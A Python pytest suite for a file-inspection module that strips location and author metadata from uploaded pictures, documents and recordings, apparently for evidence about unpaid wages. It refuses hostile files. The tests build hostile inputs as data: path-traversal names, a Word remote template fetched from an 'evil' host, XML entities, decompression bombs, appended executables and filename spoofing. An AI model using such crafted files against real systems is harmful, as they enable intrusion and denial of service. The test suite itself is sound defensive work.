import io
import random
import struct
import zipfile
import zlib

import docx
import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, NumberObject, StreamObject

from huiyin.kernel.files.embedded import jpeg_parts
from huiyin.kernel.files.inspect import FileRefused, Inspected, Limits, inspect
from huiyin.kernel.files.names import MAX_NAME, safe_name
from tests.support.files import SECRET, film, pdf, picture, sound, word_file


def refusal(data, name, **limits):
    with pytest.raises(FileRefused) as caught:
        inspect(data, name, limits=Limits(**limits))
    return caught.value.code


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_a_picture_loses_its_place_and_its_author_and_stands_upright(form):
    data = picture(form)
    assert SECRET.encode() in data
    found = inspect(data, "证据.jpg")
    with Image.open(io.BytesIO(found.clean)) as clean:
        assert dict(clean.getexif()) == {}
        assert not clean.getexif().get_ifd(0x8825)
        assert clean.size == (32, 64) == (found.width, found.height)
        red, _, blue = clean.convert("RGB").getpixel((16, 8))
        assert blue > 200 > 60 > red  # the left half, turned clockwise, is now on top
    assert SECRET.encode() not in found.clean
    assert found.scrubbed
    assert found.kind == "picture"


def test_a_png_called_jpg_is_taken_under_its_true_ending():
    found = inspect(picture("PNG"), "photo.jpg")
    assert (found.mime, found.name) == ("image/png", "photo.png")


def test_an_animation_keeps_its_frames():
    frames = [Image.new("RGB", (20, 10), c) for c in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], comment=SECRET.encode())
    found = inspect(out.getvalue(), "a.gif")
    with Image.open(io.BytesIO(found.clean)) as clean:
        assert clean.n_frames == 3
    assert SECRET.encode() not in found.clean


def test_what_hangs_on_the_end_of_a_picture_is_gone():
    package = io.BytesIO()
    with zipfile.ZipFile(package, "w") as file:
        file.writestr("run.exe", b"MZ")
    found = inspect(picture(exif=False) + package.getvalue(), "a.jpg")
    assert not zipfile.is_zipfile(io.BytesIO(found.clean))


def test_a_pdf_loses_author_script_and_enclosures_and_keeps_its_pages():
    found = inspect(pdf(pages=3), "合同.pdf")
    reader = PdfReader(io.BytesIO(found.clean))
    assert len(reader.pages) == 3
    assert not reader.metadata
    assert not reader.attachments
    for trace in (SECRET.encode(), b"JavaScript", b"app.alert", b"/OpenAction", b"/AA"):
        assert trace not in found.clean


def test_a_pdf_that_needs_a_password_is_refused():
    assert refusal(pdf(password="x"), "a.pdf") == "encrypted"


def test_a_pdf_of_too_many_pages_is_refused():
    assert refusal(pdf(pages=6), "a.pdf", pages=5) == "bomb"


def test_a_pdf_that_claims_a_billion_pages_is_refused_before_they_are_walked():
    data = pdf(pages=1).replace(b"/Count 1", b"/Count 1000000000")
    assert refusal(data, "a.pdf") == "bomb"


def test_a_photo_inside_a_pdf_loses_its_place_and_keeps_its_pixels():
    writer = PdfWriter()
    sheet = writer.add_blank_page(200, 200)
    photo = StreamObject()
    photo._data = picture()
    photo.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(64),
            NameObject("/Height"): NumberObject(32),
            NameObject("/BitsPerComponent"): NumberObject(8),
            NameObject("/ColorSpace"): NameObject("/DeviceRGB"),
            NameObject("/Filter"): NameObject("/DCTDecode"),
        }
    )
    sheet[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/XObject"): DictionaryObject({NameObject("/Im0"): writer._add_object(photo)})}
    )
    out = io.BytesIO()
    writer.write(out)
    assert SECRET.encode() in out.getvalue()
    found = inspect(out.getvalue(), "扫描.pdf")
    assert SECRET.encode() not in found.clean
    bare = b"".join(jpeg_parts(picture()))
    assert bare in found.clean
    with Image.open(io.BytesIO(picture())) as before, Image.open(io.BytesIO(bare)) as after:
        assert after.tobytes() == before.tobytes()
        assert dict(after.getexif()) == {}


def test_a_pdf_whose_directory_unpacks_without_end_is_refused():
    zeros = zlib.compress(bytes(300_000_000), 9)
    table = (
        b"1 0 obj\n<</Type/XRef/Size 3/W[1 2 1]/Root 2 0 R/Filter/FlateDecode/Length %d>>\n"
        b"stream\n" % len(zeros)
    )
    data = b"%PDF-1.7\n" + table + zeros + b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"
    assert len(data) < 400_000
    assert refusal(data, "a.pdf") in {"bomb", "damaged"}


def test_a_word_file_loses_its_author_and_its_pictures_places():
    found = inspect(word_file(), "情况说明.docx")
    clean = docx.Document(io.BytesIO(found.clean))
    assert clean.paragraphs[0].text == "调休未兑现"
    assert clean.core_properties.author == ""
    with zipfile.ZipFile(io.BytesIO(found.clean)) as package:
        assert not any(SECRET.encode() in package.read(n) for n in package.namelist())
        media = next(n for n in package.namelist() if n.startswith("word/media/"))
        with Image.open(io.BytesIO(package.read(media))) as inner:
            assert dict(inner.getexif()) == {}


def test_a_word_file_loses_the_names_beside_tracked_changes():
    with zipfile.ZipFile(io.BytesIO(word_file())) as package:
        body = package.read("word/document.xml")
    marked = body.replace(
        b"<w:body>",
        b'<w:body><w:p><w:ins w:id="1" w:author="' + SECRET.encode() + b'"><w:r><w:t>x</w:t>'
        b"</w:r></w:ins></w:p>",
    )
    found = inspect(word_file({"word/document.xml": marked}), "a.docx")
    with zipfile.ZipFile(io.BytesIO(found.clean)) as package:
        clean = package.read("word/document.xml")
    assert b'w:author=""' in clean
    assert SECRET.encode() not in clean


def test_a_spreadsheet_still_opens():
    book = openpyxl.Workbook()
    book.properties.creator = SECRET
    book.active["A1"] = "加班时数"
    out = io.BytesIO()
    book.save(out)
    found = inspect(out.getvalue(), "表.xlsx")
    clean = openpyxl.load_workbook(io.BytesIO(found.clean))
    assert clean.active["A1"].value == "加班时数"
    assert clean.properties.creator != SECRET


@pytest.mark.parametrize(
    ("extra", "code"),
    [
        ({"word/vbaProject.bin": b"x"}, "has_script"),
        ({"word/activeX/activeX1.bin": b"x"}, "has_script"),
        ({"word/styles.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}, "has_script"),
        (
            {
                "word/styles.xml": (
                    '<?xml version="1.0" encoding="UTF-16"?>'
                    + " " * 5_000
                    + '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
                ).encode("utf-16")
            },
            "has_script",
        ),
        (
            {
                "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r" '
                b'Type="http://x/attachedTemplate" Target="http://evil/t.dotm" '
                b'TargetMode="External"/></Relationships>'
            },
            "has_script",
        ),
        ({"../../etc/cron.d/x": b"x"}, "damaged"),
        ({"word/zeros.bin": bytes(30_000_000)}, "bomb"),
    ],
)
def test_a_word_file_with_a_hidden_part_is_refused(extra, code):
    assert refusal(word_file(extra), "a.docx") == code


def test_a_zip_that_lies_about_its_size_is_refused():
    styles = b"<a>" + b"\n" * 3_000_000 + b"</a>"
    honest = word_file(
        {"word/styles.xml": styles, "word/padding.bin": random.Random(1).randbytes(50_000)}
    )
    lying = honest.replace(struct.pack("<I", len(styles)), struct.pack("<I", 10))
    assert lying != honest
    assert refusal(lying, "a.docx") in {"bomb", "damaged"}


def test_a_picture_of_too_many_pixels_is_refused_before_it_is_decoded():
    def chunk(name, body):
        return (
            struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        )

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")
    assert refusal(data, "a.png") == "bomb"
    assert refusal(picture(size=(200, 200)), "a.jpg", pixels=39_999) == "bomb"


def test_a_film_keeps_its_frames_and_loses_its_place_and_its_date():
    data = film()
    found = inspect(data, "现场.mp4")
    assert found.kind == "video"
    assert len(found.clean) == len(data)
    assert b"+39.9042" not in found.clean
    assert struct.pack(">I", 3_900_000_000) not in found.clean
    assert found.clean.endswith(b"\x01" * 64)
    assert found.scrubbed
    assert found.residue


def test_a_recording_loses_its_notes_and_says_that_a_voice_remains():
    data = sound()
    note = b"LIST" + struct.pack("<I", len(SECRET) + 1) + SECRET.encode() + b"\x00"
    found = inspect(data + note, "a.wav")
    assert found.clean == data
    assert found.scrubbed
    assert found.residue


def test_an_mp3_loses_its_tags():
    frames = (b"\xff\xfb\x90\x00" + bytes(413)) * 3
    tag = b"ID3\x04\x00\x00\x00\x00\x00\x20" + SECRET.encode().ljust(32, b"\x00")
    tail = b"TAG" + SECRET.encode().ljust(125, b"\x00")
    found = inspect(tag + frames + tail, "a.mp3")
    assert found.clean == frames


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "gb18030"])
def test_a_text_is_read_in_the_encodings_that_people_have(encoding):
    found = inspect("欠薪三个月\n".encode(encoding), "说明.txt")
    assert found.clean.decode() == "欠薪三个月\n"
    assert not found.scrubbed


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        (b"", "a.jpg", "empty"),
        (b"MZ\x90\x00" + bytes(200), "a.jpg", "type_disagrees"),
        (b"MZ\x90\x00" + bytes(200), "a.exe", "type_not_allowed"),
        (picture(), "a.pdf", "type_disagrees"),
        (picture(), "a.jpg.exe", "type_disagrees"),
        (pdf(), "a.jpg", "type_disagrees"),
        (word_file(), "a.docm", "type_disagrees"),
        (word_file(), "a.txt", "type_disagrees"),
        (b"<!DOCTYPE html><script>x</script>", "a.txt", "type_disagrees"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "a.svg", "type_disagrees"),
        (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "a.heic", "damaged"),
        (picture()[:200], "a.jpg", "damaged"),
        (b"%PDF-1.7\nnothing", "a.pdf", "damaged"),
        (b"PK\x03\x04nothing", "a.docx", "damaged"),
        (film()[:-10], "a.mp4", "damaged"),
    ],
)
def test_what_is_not_what_it_says_is_refused_with_a_stable_code(data, name, code):
    assert refusal(data, name) == code


def test_a_file_over_the_limit_is_refused_with_both_sizes():
    with pytest.raises(FileRefused) as caught:
        inspect(b"x" * 11, "a.txt", limits=Limits(size=10))
    assert caught.value.code == "too_large"
    assert caught.value.details == {"size": 11, "size_allowed": 10}


@pytest.mark.parametrize(
    ("declared", "name"),
    [
        ("../../etc/passwd", "passwd.txt"),
        ("C:\\Users\\张三\\说明.txt", "说明.txt"),
        ("gpj.\u202etxt.exe", "gpj.txt.txt"),
        ("a\x00b\r\nc.txt", "abc.txt"),
        ("", "file.txt"),
        ("...", "file.txt"),
        ("con.txt", "file.txt"),
        ('a"b;c.txt', "a_b;c.txt"),
    ],
)
def test_a_name_holds_no_path_and_no_trick(declared, name):
    assert safe_name(declared, "txt") == name


@given(st.text(max_size=400))
def test_any_name_becomes_a_short_name_with_the_true_ending(declared):
    name = safe_name(declared, "pdf")
    assert name.endswith(".pdf")
    assert len(name) <= MAX_NAME
    assert not set(name) & set('/\\\x00\r\n"\u202e')


SAMPLES = [
    picture(), picture("PNG"), picture("WEBP"), picture("GIF", exif=False), pdf(), word_file(),
    film(), sound(), b"OggS" + bytes(60), b"ID3\x04" + bytes(40),
]  # fmt: skip


@given(
    sample=st.sampled_from(SAMPLES),
    cuts=st.lists(st.tuples(st.integers(0, 40_000), st.binary(max_size=8)), max_size=6),
    end=st.integers(0, 40_000),
    name=st.sampled_from(["a.jpg", "a.pdf", "a.docx", "a.mp4", "a.wav", "a.txt", "a.exe", ""]),
)
def test_damaged_files_are_inspected_or_refused_and_nothing_else(sample, cuts, end, name):
    data = bytearray(sample)
    for at, patch in cuts:
        data[at : at + len(patch)] = patch
    settle(bytes(data[:end] if end < 30_000 else data), name)


@given(data=st.binary(max_size=300), head=st.sampled_from([s[:16] for s in SAMPLES] + [b""]))
@example(data=b"", head=b"\xff\xfe")
def test_random_bytes_are_inspected_or_refused_and_nothing_else(data, head):
    settle(head + data, "a.jpg")


def settle(data, name):
    try:
        found = inspect(data, name, limits=Limits(pixels=1_000_000, unpacked=2_000_000))
    except FileRefused:
        return
    assert isinstance(found, Inspected)
    assert found.clean or found.kind == "text"
